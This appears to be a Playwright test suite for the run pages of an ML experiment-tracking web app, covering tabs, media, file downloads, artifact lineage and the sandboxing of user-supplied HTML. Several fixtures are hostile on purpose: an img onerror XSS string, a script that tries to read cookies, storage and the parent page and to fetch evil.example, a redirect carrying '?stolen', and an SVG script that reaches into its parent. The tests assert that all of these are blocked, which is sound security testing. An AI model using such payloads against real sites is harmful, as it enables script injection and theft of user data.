"""The files and artifacts of a run on its page, in a real browser."""

import re
import struct
import zlib

import pytest
from browser_pages import Requests, eventually, serious_barriers
from playwright.sync_api import expect

import afnio_tellurio as te

PROJECT = "/acme/projects/digits/"
HOSTILE = "<img src=x onerror=alert(1)>\u202e"
#: It tries all that it must not be able to do, and tells in its own text what it could.
PRYING = """
<style>p { color: rgb(1, 2, 3) }</style><p id="told">nothing</p>
<script>
(async () => {
  const told = [];
  const attempt = async (name, act) => {
    try { await act(); told.push(name); } catch (error) { /* as it must be */ }
  };
  await attempt("parent", () => parent.document.body.innerHTML);
  await attempt("cookies", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("api", () => fetch("/api/v0/namespaces/"));
  await attempt("other", () => fetch("https://evil.example/", { mode: "no-cors" }));
  await attempt("top", () => { top.location.href = "/elsewhere/"; });
  document.getElementById("told").textContent = `origin ${origin}, could: ${told.join(" ")}`;
})();
</script>
"""


def png(width=4, height=4):
    """A gray picture."""

    def chunk(kind, data):
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = (b"\0" + b"\x80" * width) * height
    data = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + data


def wav(count=800):
    """A moment of silence."""
    data = bytes(2 * count)
    head = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)
    body = b"WAVE" + head + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def begin(client, name="run"):
    return te.init("acme", "Digits", name, client=client)


def open_run(open_page, run, query="", **options):
    page = open_page(f"{PROJECT}runs/{run.uuid}/{query}", **options)
    expect(page.locator("h1")).to_contain_text(run.name)
    return page


def series(page, name):
    return page.locator("figure").filter(has=page.locator("figcaption", has_text=name))


#: What each tab loads, and what it asks the backend for.
TABS = {
    "": ({"curves.js"}, {"metrics/summary", "metrics/sample"}),
    "media": ({"steps.js", "cards.js"}, {"metrics/summary", "metrics", "files"}),
    "tables": ({"rows.js"}, {"tables"}),
    "files": ({"files.js", "previews.js"}, {"files", "artifacts"}),
    "config": ({"config.js", "fields.js"}, set()),
}


@pytest.mark.parametrize("tab", TABS)
def test_a_tab_loads_and_asks_for_nothing_that_another_one_shows(open_page, client, tab):
    with te.init("acme", "Digits", "run", config={"lr": 1}, client=client) as run:
        run.log("loss", 1)
        run.log("prompt", "Be brief.")
        run.log_text("answers", "one", step=0)
        run.log_rows("candidates", [{"index": 0}])
        run.log_artifact(b"x", "model", wait=True)
    page = open_page("/acme/")
    expect(page.get_by_role("link", name="Digits")).to_be_visible()
    urls = set()
    page.on("request", lambda request: urls.add(request.url))
    page.goto(page.url.replace("/acme/", f"{PROJECT}runs/{run.uuid}/?tab={tab}"))
    shown = {"": "canvas", "media": "figure", "files": ".files li", "config": ".fields"}
    expect(page.locator(shown.get(tab, "main summary")).first).to_be_visible()
    if tab == "media":
        expect(page.locator("figure pre")).to_have_count(2)
    scripts, paths = TABS[tab]
    known = set.union(*(names for names, _paths in TABS.values()))
    files = {url.rpartition("/")[2] for url in urls}
    assert files & known >= scripts
    others = {"curves.js", "steps.js", "rows.js", "config.js"} - scripts
    assert not files & others
    parts = {"metrics", "summary", "sample", "files", "tables", "artifacts"}
    asked = {url.partition("?")[0].rstrip("/").rpartition("/")[2] for url in urls if "/api/" in url}
    assert asked & parts == {path.rpartition("/")[2] for path in paths}


def test_tabs_are_reached_with_the_keyboard_and_kept_in_the_address(open_page, client):
    with begin(client) as run:
        run.log("loss", 1)
    page = open_run(open_page, run)
    tabs = page.get_by_role("navigation", name="Run")
    names = ["Charts", "Text & media", "Tables", "Files", "Config"]
    expect(tabs.get_by_role("link")).to_have_text(names)
    tabs.get_by_role("link", name="Charts").focus()
    for name in names:
        page.keyboard.press("Enter")
        link = tabs.get_by_role("link", name=name)
        expect(link).to_have_attribute("aria-current", "page")
        expect(link).to_be_focused()
        expect(tabs.locator("[aria-current]")).to_have_count(1)
        page.keyboard.press("Tab")
    expect(page).to_have_url(re.compile("tab=config$"))
    page.go_back()
    expect(tabs.locator("[aria-current]")).to_have_text("Files")
    page.reload()
    expect(tabs.locator("[aria-current]")).to_have_text("Files")


@pytest.mark.parametrize("tab", ["media", "tables", "files", "config"])
def test_an_empty_tab_tells_how_to_fill_it(open_page, client, tab):
    with begin(client) as run:
        pass
    page = open_run(open_page, run, f"?tab={tab}")
    expect(page.get_by_text(re.compile("^No ")).first).to_be_visible()
    expect(page.get_by_text("Loading")).to_have_count(0)
    assert serious_barriers(page) == []


@pytest.mark.parametrize("tab", ["", "media", "tables", "files"])
def test_a_tab_shows_that_it_cannot_be_loaded(open_page, client, tab):
    with begin(client) as run:
        run.log("loss", 1)
    page = open_run(open_page, run)
    failing = re.compile(f"{run.uuid}/(metrics|tables|files)/")
    page.route(failing, lambda route: route.fulfill(status=500, json={"detail": "Out of disk."}))
    page.goto(page.url + f"?tab={tab}")
    expect(page.get_by_text("Out of disk.")).to_be_visible()
    expect(page.get_by_text("Loading")).to_have_count(0)
    page.unroute(failing)
    eventually(page, expect(page.get_by_text("Out of disk.")).to_have_count, 0)


def test_series_show_what_they_had_at_a_step(open_page, client):
    with begin(client) as run:
        for step in (0, 5, 10):
            run.log_image("samples", png(4 + step), step=step)
            run.log_text("answers", f"first {step}\n  second", step=step)
        run.log_text("rare", "rare", step=4)
        run.log_audio("beep", wav(), step=0)
    page = open_run(open_page, run, "?tab=media")
    image = series(page, "samples").locator("img")
    expect(image).to_have_js_property("naturalWidth", 14)
    text = series(page, "answers").locator("pre")
    expect(text).to_have_text("first 10\n  second", use_inner_text=True)
    expect(series(page, "beep").locator("audio")).to_have_js_property("duration", 0.1)
    slider = page.get_by_role("slider", name="Step")
    slider.focus()
    page.keyboard.press("ArrowLeft")
    expect(page).to_have_url(re.compile("at=5"))
    expect(image).to_have_js_property("naturalWidth", 9)
    expect(text).to_contain_text("first 5")
    page.keyboard.press("Home")
    expect(series(page, "rare")).to_contain_text("The first is at step 4.")
    expect(text).to_contain_text("first 0")
    page = open_run(open_page, run, "?tab=media&at=5")
    expect(series(page, "answers").locator("pre")).to_contain_text("first 5")


def test_new_steps_appear(open_page, client):
    run = begin(client)
    run.log_text("answers", "old", step=0)
    run.flush()
    page = open_run(open_page, run, "?tab=media")
    expect(series(page, "answers").locator("pre")).to_have_text("old")
    run.log_text("answers", "new", step=1)
    run.flush()
    eventually(page, expect(series(page, "answers").locator("pre")).to_have_text, "new")
    run.finish()


def test_files_are_listed_shown_and_downloaded(open_page, client, tmp_path):
    source = tmp_path / "config.json"
    source.write_text('{"layers": 2}')
    with begin(client) as run:
        run.log_file(source, "model/config.json")
    page = open_run(open_page, run, "?tab=files")
    item = page.locator(".files li")
    expect(item.locator("summary")).to_have_text("model/config.json 13 B")
    assert Requests(page, "/file/").all() == []
    with page.expect_download() as download:
        item.get_by_role("button", name="Download model/config.json").click()
    assert download.value.suggested_filename == "config.json"
    assert download.value.path().read_bytes() == source.read_bytes()
    item.locator("summary").click()
    expect(item.locator("pre")).to_have_text('{"layers": 2}')


def test_only_what_is_seen_is_loaded(open_page, client):
    with begin(client) as run:
        for number in range(60):
            run.log_text(f"text {number:02}", f"it is {number}", step=0)
    page = open_run(open_page, run, "?tab=media")
    expect(series(page, "text 00").locator("pre")).to_have_text("it is 0")
    last = "path=text+59"
    assert Requests(page, last).all() == []
    series(page, "text 59").scroll_into_view_if_needed()
    expect(series(page, "text 59").locator("pre")).to_have_text("it is 59")
    Requests(page, last).to_be_more_than(0)


def test_the_artifacts_of_a_run_are_linked(open_page, client):
    with begin(client, "training") as training:
        training.log_artifact(b"data", "model", type="model")
    with begin(client, "evaluation") as evaluation:
        evaluation.use_artifact("model")
        evaluation.log_artifact(b"more", "report", type="text")
    page = open_run(open_page, evaluation, "?tab=files")
    expect(page.locator("main > h3")).to_have_text(["Inputs", "Outputs"])
    expect(page.locator(".files li")).to_have_text(["model:v0 model · 4 B", "report:v0 text · 4 B"])
    # The graph below the lists has links of its own.
    link = page.locator(".files").get_by_role("link", name="model:v0")
    expect(link).to_have_attribute("href", f"{PROJECT}artifacts/model/v0/")


def stage(page, label):
    return page.get_by_role("list", name=label, exact=True)


def test_the_lineage_of_a_run_is_drawn_once_it_is_in_view(open_page, client):
    with begin(client, "training") as training:
        training.log_artifact(b"data", "model", type="model")
    with begin(client, "evaluation") as evaluation:
        evaluation.use_artifact("model")
        evaluation.log_artifact(b"more", "report", type="text", wait=True)
    with begin(client, HOSTILE) as reader:
        reader.use_artifact("report")
    page = open_run(open_page, evaluation, "?tab=files", height=300)
    expect(page.locator(".files li")).to_have_count(2)
    assert Requests(page, "/versions/").all() == []
    page.get_by_role("heading", name="Lineage").scroll_into_view_if_needed()
    for label, name in (
        ("Created by", "training"),
        ("Used", "model:v0"),
        ("This run", "evaluation"),
        ("Created", "report:v0"),
        ("Used by", HOSTILE),
    ):
        expect(stage(page, label).locator("li")).to_have_text([name])
    assert len(Requests(page, "/versions/").all()) == 2
    assert serious_barriers(page) == []
    for width in (3840, 1024, 390):
        page.set_viewport_size({"width": width, "height": 900})
        page.wait_for_function(
            "(width) => document.documentElement.scrollWidth <= width", arg=width
        )
    stage(page, "Used by").get_by_role("link").click()
    expect(page.locator("h1")).to_contain_text(HOSTILE)


def test_a_run_that_used_many_artifacts_has_a_bounded_graph(open_page, client):
    with begin(client) as run:
        for number in range(12):
            run.log_artifact(b"x%d" % number, f"part-{number:02}", wait=True)
    page = open_run(open_page, run, "?tab=files")
    page.get_by_role("heading", name="Lineage").scroll_into_view_if_needed()
    expect(stage(page, "Created").locator("li")).to_have_count(8)
    expect(page.get_by_text("4 more artifacts not shown.")).to_be_visible()
    assert len(Requests(page, "/versions/").all()) == 8


def test_html_has_an_origin_of_its_own(open_page, client):
    with begin(client) as run:
        run.log_html("report", PRYING, step=0)
    page = open_run(open_page, run, "?tab=media")
    frame = series(page, "report").frame_locator("iframe")
    told = frame.locator("#told")
    expect(told).to_have_text("origin null, could: ")
    expect(told).to_have_css("color", "rgb(1, 2, 3)")
    expect(page).to_have_url(re.compile(run.uuid))
    assert series(page, "report").locator("iframe").get_attribute("sandbox") == "allow-scripts"
    # The browser tells what it prevented.
    prevented = open_page.take_messages()
    assert prevented
    assert all(re.search("Content Security Policy|Unsafe attempt", line) for line in prevented)


def log_raw(client, run, path, data, **fields):
    """Logs a file with any content type, as another client may."""
    with te.init("acme", "Digits", "upload", client=client) as other:
        version = other.log_artifact(data, "blob", wait=True)
    (file,) = version.files
    body = {"path": path, "digest": file.digest, **fields}
    client.post(f"/api/v0{PROJECT}runs/{run.uuid}/files/", body)


@pytest.mark.parametrize("content_type", ["image/svg+xml", "text/html; charset=utf-8"])
def test_a_declared_type_decides_what_a_frame_shows(open_page, client, content_type):
    run = begin(client)
    picture = b"<svg xmlns='http://www.w3.org/2000/svg'><script>parent.name = 'x'</script></svg>"
    fields = {"kind": "image", "step": 0, "content_type": content_type}
    log_raw(client, run, "drawing", picture, **fields)
    page = open_run(open_page, run, "?tab=media")
    frame = series(page, "drawing").frame_locator("iframe")
    expect(frame.locator("svg")).to_have_count(1)
    assert page.locator("main svg:not(.icon), main img").count() == 0
    assert page.evaluate("window.name") == ""
    (message,) = open_page.take_messages()
    assert 'Blocked a frame with origin "null"' in message
    run.finish()


def test_html_cannot_leave_its_frame(open_page, client):
    with begin(client) as run:
        leave = "<script>location.href = 'https://evil.example/?stolen'</script>"
        run.log_html("report", leave, step=0)
    page = open_page("/")
    with page.expect_console_message(lambda message: "frame-src" in message.text):
        page.goto(page.url + f"{PROJECT[1:]}runs/{run.uuid}/?tab=media")
    # The opener checks that no request left.
    assert all("Content Security Policy" in line for line in open_page.take_messages())


def test_bytes_that_are_not_what_was_declared_are_harmless(open_page, client):
    run = begin(client)
    picture = b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'></svg>"
    fields = {"kind": "image", "step": 0, "content_type": "image/png"}
    log_raw(client, run, "drawing", picture, **fields)
    log_raw(client, run, "strange", b"x", **{**fields, "content_type": "application/x-strange"})
    page = open_run(open_page, run, "?tab=media")
    expect(series(page, "drawing")).to_contain_text("cannot be shown")
    expect(series(page, "strange")).to_contain_text("No preview of this type.")
    run.finish()


def test_paths_and_texts_are_text(open_page, client):
    with begin(client) as run:
        run.log_text("answers", HOSTILE, step=0)
        run.log_artifact(b"x", "model", type=HOSTILE)
    page = open_run(open_page, run, "?tab=files")
    expect(page.locator(".files bdi").last).to_have_text(HOSTILE)
    page = open_run(open_page, run, "?tab=media")
    expect(page.locator("figure pre")).to_have_text(HOSTILE)
    assert page.locator("main script, main img, main svg:not(.icon)").count() == 0
    # The backend refuses such paths, and the page does not rely on that.
    file = {"path": HOSTILE, "kind": "file", "digest": "0" * 64, "size": 3}
    files = [{**file, "step": 0, "kind": "text"}, file]
    page.route(re.compile("/files/"), lambda route: route.fulfill(json=files))
    page.route(re.compile("/file/"), lambda route: route.fulfill(body=HOSTILE))
    page.reload()
    expect(page.locator("figcaption > bdi")).to_have_text(HOSTILE)
    expect(page.locator("figure pre")).to_have_text(HOSTILE)
    page.get_by_role("link", name="Files").click()
    expect(page.locator("summary bdi")).to_have_text(HOSTILE)
    assert page.locator("main script, main img, main svg:not(.icon)").count() == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_files_are_for_everybody_and_any_width(open_page, client, tmp_path, scheme):
    source = tmp_path / "notes.txt"
    source.write_text("long " * 100)
    with begin(client) as run:
        for step in range(2):
            run.log_image("samples", png(900, 30), step=step)
        run.log_audio("beep", wav(), step=0)
        run.log_text("t" * 200, "y" * 2000, step=0)
        run.log_html("report", "<h1>Report</h1>", step=0)
        run.log_file(source, "x" * 200)
        run.log_artifact(b"x", "m" * 100, type="model")
    for tab, part in (("media", "img.media"), ("files", ".files pre")):
        page = open_run(open_page, run, f"?tab={tab}", scheme=scheme, width=1280)
        if tab == "files":
            page.locator(".files summary").click()
        expect(page.locator(part)).to_be_visible()
        assert serious_barriers(page) == []
        for width in (3840, 1440, 1024, 390, 360):
            page.set_viewport_size({"width": width, "height": 900})
            page.wait_for_function(
                "(width) => document.documentElement.scrollWidth <= width", arg=width
            )
